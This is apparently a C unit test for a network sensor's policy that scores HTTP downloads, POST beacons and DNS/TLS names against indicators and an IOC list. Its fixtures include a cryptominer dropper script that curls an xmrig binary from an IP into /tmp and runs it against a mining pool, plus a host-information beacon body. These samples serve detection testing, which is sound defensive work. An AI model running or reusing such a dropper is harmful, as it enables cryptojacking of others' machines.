/*
 * test_c2_policy.c - the verdict on HTTP transfers (sensor/c2_policy.c) with
 * the project's real signatures/script.indicators and an IOC list written
 * here: risk from indicators, delivery signals and IOCs; which transfers are
 * events at all; the beacon check of POST bodies; the inspection-depth
 * truncation; IOC checks of DNS and TLS names.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "c2_policy.h"
#include "check.h"

static struct c2_policy pol;
static struct c2_scratch sc;

/* A transfer fact as the http_download dissector builds it. */
static void transfer(struct fact *f, const char *url, const char *host, const char *ua,
                     const char *type, int host_is_ip, const char *body, uint64_t size)
{
    fact_init(f, "http_download", "http_download.transfer");
    fact_cstr(f, "url", url);
    fact_cstr(f, "hostname", host);
    fact_cstr(f, "http_method", "GET");
    fact_uint(f, "status", 200);
    if (ua)
        fact_cstr(f, "user_agent", ua);
    if (type)
        fact_cstr(f, "file_type", type);
    fact_uint(f, "size", size);
    fact_bool(f, "truncated", 0);
    fact_bool(f, "host_is_ip", host_is_ip);
    if (body)
        fact_hidden(f, "body", body, strlen(body));
}

static const char *str(const struct fact *f, const char *name)
{
    static char buf[256];
    const struct fact_field *ff = fact_get(f, name);

    if (!ff || ff->type != FV_STR)
        return "";
    snprintf(buf, sizeof(buf), "%.*s", (int)ff->len, ff->v.s);
    return buf;
}

static uint64_t num(const struct fact *f, const char *name)
{
    const struct fact_field *ff = fact_get(f, name);

    return ff ? ff->v.u : 999999;
}

static int has_item(const struct fact *f, const char *name, const char *value)
{
    for (unsigned i = 0; i < f->nfields; i++)
        if (strcmp(f->field[i].name, name) == 0 && f->field[i].type == FV_STR &&
            f->field[i].len == strlen(value) &&
            memcmp(f->field[i].v.s, value, f->field[i].len) == 0)
            return 1;
    return 0;
}

static const char xmr_sh[] =
    "#!/bin/sh\n"
    "curl -s http://198.51.100.20/xmrig -o /tmp/.x && chmod +x /tmp/.x\n"
    "/tmp/.x -o stratum+tcp://pool.example:3333 -u "
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2"
    "VBBEt7f2wfn3RVGQBEP3A --donate-level 1 -B\n";

static const char installer[] =
    "#!/bin/sh\nset -e\n"
    "VERSION=1.4.2\n"
    "curl -fsSLo /tmp/frob.tgz https://dl.vendor.example/v$VERSION.tgz\n"
    "sha256sum -c frob.sha256\n"
    "tar xzf /tmp/frob.tgz -C /opt\n"
    "echo 'installed: run frobctl --help'\n";

static void test_scripts(void)
{
    struct fact in;
    const struct fact *out;
    int log;

    /* Graboid's xmr.sh from an address, by curl: high, with its behaviours named */
    transfer(&in, "http://198.51.100.9/xmr.sh", "198.51.100.9", "curl/7.88.1", "shell-script", 1,
             xmr_sh, sizeof(xmr_sh) - 1);
    log = 0;
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(out != &in);
    CHECK(log);
    CHECK_STR(str(out, "risk"), "high");
    CHECK(num(out, "score") >= 60);
    CHECK(has_item(out, "indicators", "xmrig") || has_item(out, "indicators", "stratum-url"));
    CHECK(has_item(out, "reasons", "ip-literal-host"));
    CHECK(has_item(out, "reasons", "downloader-ua"));
    CHECK(fact_get(out, "body") != NULL); /* still there for signatures, hidden */

    /* a vendor's installer by name: an executable, so an event, but low */
    transfer(&in, "http://dl.vendor.example/install.sh", "dl.vendor.example", "curl/7.88.1",
             "shell-script", 0, installer, sizeof(installer) - 1);
    log = 0;
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(log);
    CHECK_STR(str(out, "risk"), "low");
    CHECK(num(out, "score") < pol.score_medium);

    /* an ELF from an address: high on delivery alone */
    transfer(&in, "http://198.51.100.7/kinsing", "198.51.100.7", "Wget", "elf", 1, NULL, 8632);
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_STR(str(out, "risk"), "high");
    CHECK(has_item(out, "reasons", "binary-from-ip"));
    /* the same ELF from a distribution mirror by apt: low */
    transfer(&in, "http://deb.debian.org/x.deb", "deb.debian.org", "Debian APT-HTTP/1.3", "elf", 0,
             NULL, 8632);
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_STR(str(out, "risk"), "low");
    CHECK_EQ(num(out, "score"), 0);
}

static void test_silent(void)
{
    struct fact in;
    int log = 1;

    /* a page, an archive, a 304 (no type): not events */
    transfer(&in, "http://198.51.100.9/", "198.51.100.9", "curl/7.88.1", "other", 1, NULL, 500);
    c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(!log);
    log = 1;
    transfer(&in, "http://dl.vendor.example/src.tar.gz", "dl.vendor.example", "Wget/1.21",
             "archive", 0, NULL, 573);
    c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(!log);
    log = 1;
    transfer(&in, "http://dl.vendor.example/a.sh", "dl.vendor.example", "curl/7", NULL, 0, NULL, 0);
    c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(!log);
}

static void test_depth_and_beacon(void)
{
    struct fact in;
    const struct fact *out;
    int log = 0;

    /* a sample shorter than the body: truncated, and how far the scan read */
    transfer(&in, "http://198.51.100.9/big.sh", "198.51.100.9", "curl/7.88.1", "shell-script", 1,
             "#!/bin/sh\necho hi\n", 200000);
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_EQ(num(out, "inspected"), 18);
    CHECK_EQ(fact_get(out, "truncated")->v.u, 1);

    /* live.sh's POST of host information: a beacon, whatever the response */
    fact_init(&in, "http_download", "http_download.transfer");
    fact_cstr(&in, "url", "http://198.51.100.9/live.php");
    fact_cstr(&in, "hostname", "198.51.100.9");
    fact_cstr(&in, "http_method", "POST");
    fact_bool(&in, "host_is_ip", 1);
    fact_hidden(&in, "request_body",
                "cpu=4&hostname=web-01&os=Linux web-01 5.10.0-28-amd64 #1 SMP Debian 5.10.209-2 "
                "x86_64 GNU/Linux",
                95);
    log = 0;
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(log);
    CHECK(fact_get(out, "beacon") && fact_get(out, "beacon")->v.u == 1);
    CHECK(num(out, "beacon_score") >= pol.score_medium);
    /* an ordinary form post: not a beacon, not an event */
    fact_init(&in, "http_download", "http_download.transfer");
    fact_cstr(&in, "url", "http://shop.example/login");
    fact_cstr(&in, "http_method", "POST");
    fact_hidden(&in, "request_body", "user=alice&password=hunter2&remember=1", 39);
    log = 1;
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(!log);
    CHECK(fact_get(out, "beacon") == NULL);
}

/* The same complete body twice: scanned once, the same verdict both times. */
static void test_cache(void)
{
    struct fact in;
    const struct fact *out;
    uint64_t scans = sc.scans, hits = sc.cache_hits, score;
    int log = 0;

    transfer(&in, "http://198.51.100.9/xmr.sh", "198.51.100.9", "curl/7.88.1", "shell-script", 1,
             xmr_sh, sizeof(xmr_sh) - 1);
    fact_cstr(&in, "sha256", "2e16b094e310954277e58dcd6f6e719e9e5e549e5eecd08316463a46320b4e8c");
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    score = num(out, "score");
    CHECK(has_item(out, "indicators", "xmrig"));
    CHECK_EQ(sc.scans, scans + 1);
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_EQ(sc.scans, scans + 1);
    CHECK_EQ(sc.cache_hits, hits + 1);
    CHECK_EQ(num(out, "score"), score);
    CHECK(has_item(out, "indicators", "xmrig"));
    /* another body under the same first hex digits: its own scan */
    transfer(&in, "http://dl.vendor.example/install.sh", "dl.vendor.example", "curl/7.88.1",
             "shell-script", 0, installer, sizeof(installer) - 1);
    fact_cstr(&in, "sha256", "2e16b094ffffffffffffffffffffffffffffffffffffffffffffffffffffffff");
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_EQ(sc.scans, scans + 2);
    CHECK(!has_item(out, "indicators", "xmrig"));
    CHECK_STR(str(out, "risk"), "low");
}

static void test_ioc(void)
{
    struct fact in;
    const struct fact *out;
    int log = 0;

    /* a listed host makes a harmless-looking page high */
    transfer(&in, "http://c2.example.invalid/x", "c2.example.invalid", "Mozilla/5.0", "other", 0,
             NULL, 10);
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK(log);
    CHECK_STR(str(out, "risk"), "high");
    CHECK_STR(str(out, "ioc"), "testcamp");
    CHECK(has_item(out, "reasons", "ioc:testcamp"));
    /* DNS and TLS names */
    fact_init(&in, "dns", "dns.query");
    fact_cstr(&in, "rrname", "a.c2.example.invalid");
    out = c2_policy_enrich(&pol, &in, &sc, &log);
    CHECK_STR(str(out, "ioc"), "testcamp");
    CHECK_STR(str(out, "ioc_source"), "unit test");
    fact_init(&in, "tls", "tls.hello");
    fact_cstr(&in, "sni", "example.org");
    CHECK(c2_policy_enrich(&pol, &in, &sc, &log) == &in);
    /* other facts pass through */
    fact_init(&in, "stratum", "stratum.session");
    CHECK(c2_policy_enrich(&pol, &in, &sc, &log) == &in);
}

int main(void)
{
    char err[512], path[] = "/tmp/test_c2_policy_XXXXXX";
    int fd = mkstemp(path);
    static const char ioc[] = "domain c2.example.invalid testcamp unit test\n"
                              "ip 203.0.113.66 testcamp unit test\n";

    CHECK(fd >= 0);
    CHECK(write(fd, ioc, sizeof(ioc) - 1) == (ssize_t)(sizeof(ioc) - 1));
    close(fd);
    pol.ind = indicators_load("signatures/script.indicators", err, sizeof(err));
    if (!pol.ind)
        fprintf(stderr, "%s\n", err);
    CHECK(pol.ind != NULL);
    pol.ioc = ioc_load(path, err, sizeof(err));
    if (!pol.ioc)
        fprintf(stderr, "%s\n", err);
    CHECK(pol.ioc != NULL);
    unlink(path);
    if (!pol.ind || !pol.ioc)
        return check_done();
    pol.score_high = 60;
    pol.score_medium = 30;
    sc.xs = indicators_scratch_new(pol.ind);
    CHECK(sc.xs != NULL);

    test_scripts();
    test_silent();
    test_depth_and_beacon();
    test_cache();
    test_ioc();

    indicators_scratch_free(sc.xs);
    indicators_free((struct indicator_set *)pol.ind);
    ioc_free((struct ioc_set *)pol.ioc);
    return check_done();
}
